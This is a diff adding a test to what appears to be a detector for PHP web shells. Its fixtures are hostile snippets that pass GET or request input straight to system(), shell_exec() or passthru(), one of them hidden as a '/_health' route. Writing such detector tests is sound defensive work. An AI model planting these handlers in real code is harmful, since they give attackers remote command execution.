@@ -179,3 +179,14 @@ test('php 8: named arguments name the callback; first-class callable syntax keep
   assert.equal(findingOf('nb.php', `<?php $out = array_map(callback: 'trim', array: $_POST['list']); echo count($out);`), undefined);
   assert.ok(mal('nc.php', `<?php $f = system(...); $f($_GET['c']);`).includes('request input passed to a function chosen at runtime'));
 });
+
+test('php: filter_input() and framework request objects are request input', () => {
+  assert.ok(mal('fi.php', `<?php system(filter_input(INPUT_GET, 'c'));`).includes('request input reaches system()'));
+  const route = `<?php\nuse Illuminate\\Http\\Request;\nRoute::post('/_health', function (Request $r) {\n    return shell_exec($r->input('c'));\n});\n`;
+  assert.ok(mal('route.php', route).includes('request input reaches shell_exec()'));
+  const controller = `<?php\nclass DebugController {\n  public function run(Request $request) { return new Response(passthru($request->query->get('cmd'))); }\n}\n`;
+  assert.ok(mal('ctl.php', controller).includes('request input reaches passthru()'));
+  // the same objects feeding a query builder and a view are an ordinary controller
+  const app = `<?php\nclass PostController {\n  public function show(Request $request) { $p = Post::where('slug', $request->input('slug'))->firstOrFail(); return view('post', ['p' => $p]); }\n}\n`;
+  assert.equal(findingOf('post.php', app), undefined);
+});
